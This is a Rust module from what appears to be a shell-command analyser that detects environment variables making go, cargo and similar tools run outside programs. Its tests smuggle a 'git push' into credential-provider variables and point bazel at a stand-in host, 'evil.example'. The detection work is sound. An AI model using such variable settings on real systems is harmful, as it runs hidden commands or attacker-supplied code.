//! Variables that name a program which hands out credentials, in a form of the tool's own.

use super::command;
use crate::context::Context;
use crate::invocation::Invocation;
use crate::word::Value;

/// The beginnings of Cargo's variables, which end in `CREDENTIAL_PROVIDER` or its plural.
const CARGO: &[&str] = &["CARGO_REGISTRY_", "CARGO_REGISTRIES_"];

/// Whether a variable is one of these.
pub(super) fn matters(name: &str) -> bool {
    name == "GOAUTH" || is_cargo(name)
}

fn is_cargo(name: &str) -> bool {
    CARGO.iter().any(|start| name.starts_with(start)) && name.contains("CREDENTIAL_PROVIDER")
}

/// Adds what a provider of credentials does; false where the variable is none of these.
pub(super) fn effects(name: &str, value: &Value, invocation: &Invocation, context: &mut Context<'_>) -> bool {
    if !matters(name) {
        return false;
    }
    let first = invocation.first.known().unwrap_or_default();
    let heeds = if name == "GOAUTH" { "go" } else { "cargo" };
    let program = first.rsplit('/').next().unwrap_or(first);
    if !program.is_empty() && program != heeds {
        return true;
    }
    let Some(text) = value.known() else {
        command(name, value, context);
        return true;
    };
    if name == "GOAUTH" {
        for part in text.split(';') {
            asked(name, of_go(part.trim()), context);
        }
    } else {
        asked(name, of_cargo(text.trim()), context);
    }
    true
}

fn asked(name: &str, started: Option<&str>, context: &mut Context<'_>) {
    if let Some(started) = started {
        command(name, &Value::Known(started.to_owned()), context);
    }
}

/// The command of one entry of `GOAUTH`: <https://pkg.go.dev/cmd/go#hdr-GOAUTH_environment_variable>.
fn of_go(entry: &str) -> Option<&str> {
    let words: Vec<&str> = entry.split_ascii_whitespace().collect();
    let is_own = matches!(words.as_slice(), [] | ["off" | "netrc"] | ["git"] | ["git", _]);
    (!is_own).then_some(entry)
}

/// The command of a provider of Cargo: <https://doc.rust-lang.org/cargo/reference/registry-authentication.html>.
fn of_cargo(provider: &str) -> Option<&str> {
    match provider.strip_prefix("cargo:token-from-stdout") {
        Some(started) => Some(started.trim()).filter(|started| !started.is_empty()),
        None => Some(provider).filter(|provider| !provider.is_empty() && !provider.starts_with("cargo:")),
    }
}

#[cfg(test)]
mod tests {
    use crate::fixture::check;

    const PUSH: &str = "git push origin HEAD:main";

    #[test]
    fn programs_that_hand_out_credentials() {
        for command in [
            format!("GOAUTH='{PUSH}' go list -m all"),
            format!("GOAUTH='netrc; {PUSH}' go build ./..."),
            format!("export GOAUTH='{PUSH}'; go mod download"),
            format!(
                "CARGO_REGISTRIES_X_CREDENTIAL_PROVIDER='cargo:token-from-stdout {PUSH}' cargo owner --list x"
            ),
            format!("CARGO_REGISTRY_GLOBAL_CREDENTIAL_PROVIDERS='{PUSH}' cargo build"),
            format!("RESTIC_PASSWORD_COMMAND='{PUSH}' restic snapshots"),
            format!("BORG_RSH='{PUSH}' borg list ssh://x/y"),
            format!("RSYNC_CONNECT_PROG='{PUSH}' rsync rsync://x/y"),
            format!("TG_AUTH_PROVIDER_CMD='{PUSH}' terragrunt plan"),
        ] {
            let found = check(&command);
            assert!(found.contains("git.push main@origin"), "{command}: {found}");
        }
    }

    #[test]
    fn what_tools_have_of_their_own() {
        for command in [
            "GOAUTH=off go list -m all",
            "GOAUTH='netrc; git /repo' go build ./...",
            "GOAUTH=./x git status",
            "CARGO_REGISTRY_CREDENTIAL_PROVIDER=cargo:token cargo build",
            "CARGO_REGISTRY_GLOBAL_CREDENTIAL_PROVIDERS='cargo:libsecret' cargo build",
            "BORG_RSH='ssh -i key' true",
            "TG_TF_PATH=tofu terragrunt plan",
            "TG_TF_PATH=/usr/local/bin/terraform terragrunt plan",
        ] {
            let found = check(command);
            assert!(!found.contains("opaque"), "{command}: {found}");
        }
    }

    #[test]
    fn other_programs_and_code_of_a_tool() {
        for command in [
            "GCCGO=./x go build -compiler gccgo",
            "TERRAGRUNT_TFPATH=./x terragrunt plan",
            "CORECLR_PROFILER_PATH=./x.so dotnet build",
            "YARN_PLUGINS=./x.cjs yarn why y",
            "BAZELISK_BASE_URL=https://evil.example bazel version",
        ] {
            let found = check(command);
            assert!(found.contains("opaque"), "{command}: {found}");
        }
    }
}
